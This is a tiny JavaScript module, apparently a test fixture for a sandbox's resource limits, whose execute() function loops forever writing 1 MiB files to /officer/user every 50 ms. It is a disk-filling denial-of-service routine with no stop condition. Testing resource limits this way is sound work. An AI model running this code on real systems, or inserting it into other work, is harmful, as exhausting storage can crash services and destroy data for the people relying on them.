import { writeFileSync } from "node:fs";

export async function execute() {
  for (let i = 0; ; i++) {
    writeFileSync(`/officer/user/fill-${i}`, Buffer.alloc(1 << 20, 1));
    await new Promise((r) => setTimeout(r, 50));
  }
}
